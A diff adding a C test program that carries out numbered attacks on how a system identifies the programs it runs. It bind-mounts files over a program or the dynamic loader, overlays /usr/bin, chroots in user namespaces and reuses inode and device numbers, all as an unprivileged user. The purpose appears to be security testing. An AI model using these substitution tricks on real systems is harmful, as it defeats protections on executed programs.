@@ -1,0 +1,218 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * mounts: attacks with mounts and root directories of one's own, as an unprivileged user.
+ *
+ *	mounts ROW WHAT [FILE]
+ *
+ * FILE is what is mounted, or run, and differs from row to row.
+ *
+ * gcc: -static
+ */
+#define _GNU_SOURCE
+#include "attack.h"
+
+#define LOADER		"/lib64/ld-linux-x86-64.so.2"
+#define FD_FAILFS_ROOT	(-10004)
+#define NR_FCHROOT	472	/* since 7.3 */
+
+static const char *what, *file;
+
+static void bind_over(const char *from, const char *to)
+{
+	check("mount", mount(from, to, NULL, MS_BIND, NULL));
+}
+
+static void overlay(void)
+{
+	char options[512];
+
+	snprintf(options, sizeof(options), "lowerdir=%s/usr/bin:/usr/bin", file);
+	check("overlay", mount("overlay", "/usr/bin", "overlay", 0, options));
+}
+
+/* Run, from here, the program of this path that somebody in other namespaces sees. */
+static void from_outside(void (*prepare)(void), const char *program)
+{
+	char path[256];
+	int ready[2];
+	pid_t child;
+	char byte;
+
+	check("pipe", pipe2(ready, O_CLOEXEC));
+	child = check("fork", fork());
+	if (!child) {
+		enter_user_ns(CLONE_NEWNS);
+		prctl(PR_SET_PDEATHSIG, SIGKILL);
+		prepare();
+		check("write", write(ready[1], "r", 1));
+		pause();
+		_exit(0);
+	}
+	close(ready[1]);
+	if (read(ready[0], &byte, 1) != 1)
+		exit(1);	/* the child has said why */
+	snprintf(path, sizeof(path), "/proc/%d/root%s", child, program);
+	run(path, what);
+}
+
+static void bind_x(void)
+{
+	bind_over(file, X);
+}
+
+/* P1: FILE bound over X. */
+static void p1(void)
+{
+	enter_user_ns(CLONE_NEWNS);
+	bind_x();
+	run(X, what);
+}
+
+/* P2: the same, run from outside, where nothing was mounted. */
+static void p2(void)
+{
+	from_outside(bind_x, X);
+}
+
+/* P3: FILE is a directory. In a mount of it that is nowhere, its usr/bin/x is X's path. */
+static void p3(void)
+{
+	int pair[2], tree, fd;
+
+	check("socketpair", socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair));
+	if (!check("fork", fork())) {
+		enter_user_ns(CLONE_NEWNS);
+		tree = check("open_tree", open_tree(AT_FDCWD, file, OPEN_TREE_CLONE));
+		fd = check("openat", openat(tree, "usr/bin/x", O_PATH));
+		send_fd(pair[1], fd);
+		_exit(0);
+	}
+	close(pair[1]);
+	fd = receive_fd(pair[0]);
+	wait(NULL);
+	run_fd(fd, what);
+}
+
+/* P4, by a user: FILE is a directory to chroot(2) into. */
+static void p4(void)
+{
+	enter_user_ns(0);
+	check("chroot", chroot(file));
+	check("chdir", chdir("/"));
+	run(X, what);
+}
+
+/* P4b: without a root directory at all, FILE by descriptor. */
+static void p4b(void)
+{
+	int fd = check("open", open(file, O_PATH | O_CLOEXEC));
+
+	check("no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
+	check("fchroot", syscall(NR_FCHROOT, FD_FAILFS_ROOT, 0));
+	run_fd(fd, what);
+}
+
+/* P9: FILE is a directory, whose usr/bin an overlay has above /usr/bin. */
+static void p9(void)
+{
+	enter_user_ns(CLONE_NEWNS);
+	overlay();
+	run(X, what);
+}
+
+static void p9_outside(void)
+{
+	from_outside(overlay, X);
+}
+
+/* P18: X itself, but with FILE for its loader. */
+static void p18(void)
+{
+	enter_user_ns(CLONE_NEWNS);
+	bind_over(file, LOADER);
+	run(X, what);
+}
+
+/*
+ * P18b: the same, where X was opened by the administrator: it is the interpreter of a binfmt_misc
+ * entry with the flag F, and "./foreign" a file that the entry is for.
+ */
+static void p18b(void)
+{
+	enter_user_ns(CLONE_NEWNS);
+	bind_over(file, LOADER);
+	run("./foreign", what);
+}
+
+/* E1: root, but of a user namespace. */
+static void e1(void)
+{
+	enter_user_ns(0);
+	run(X, what);
+}
+
+/*
+ * E8: the victim was on an overlay over a tmpfs, and that was unmounted. Make the same again, with
+ * FILE for the program: the kernel numbers the inodes alike, and the next mount gets the device
+ * number that is free. It goes to a tmpfs first, which makes place again.
+ */
+static void reuse_numbers(void)
+{
+	int from, to;
+	char buf[4096];
+	ssize_t n;
+
+	check("mkdir", mkdir("first", 0755) | mkdir("layers", 0755) | mkdir("merged", 0755));
+	check("tmpfs", mount("tmpfs", "first", "tmpfs", 0, NULL));
+	check("tmpfs", mount("tmpfs", "layers", "tmpfs", 0, NULL));
+	check("umount", umount("first"));
+	check("mkdir", mkdir("layers/a", 0755) | mkdir("layers/b", 0755));
+	from = check("open", open(file, O_RDONLY));
+	to = check("creat", creat("layers/a/x", 0755));
+	while ((n = read(from, buf, sizeof(buf))) > 0)
+		check("write", write(to, buf, n));
+	close(to);
+	check("overlay", mount("overlay", "merged", "overlay", 0, "lowerdir=layers/a:layers/b"));
+}
+
+static void e8(void)
+{
+	char program[256];
+
+	check("getcwd", -!getcwd(program, sizeof(program) - sizeof("/merged/x")));
+	strcat(program, "/merged/x");
+	from_outside(reuse_numbers, program);
+}
+
+static const struct {
+	const char *row;
+	void (*attack)(void);
+} rows[] = {
+	{ "P1", p1 },
+	{ "P2", p2 },
+	{ "P3", p3 },
+	{ "P4", p4 },
+	{ "P4b", p4b },
+	{ "P9", p9 },
+	{ "P9-outside", p9_outside },
+	{ "P18", p18 },
+	{ "P18b", p18b },
+	{ "E1", e1 },
+	{ "E8", e8 },
+};
+
+int main(int argc, char **argv)
+{
+	size_t i;
+
+	alarm(20);
+	for (i = 0; argc >= 3 && i < sizeof(rows) / sizeof(rows[0]); i++) {
+		if (!strcmp(argv[1], rows[i].row)) {
+			what = argv[2];
+			file = argv[3];
+			rows[i].attack();
+		}
+	}
+	fprintf(stderr, "usage: mounts ROW WHAT [FILE]\n");
+	return 2;
+}
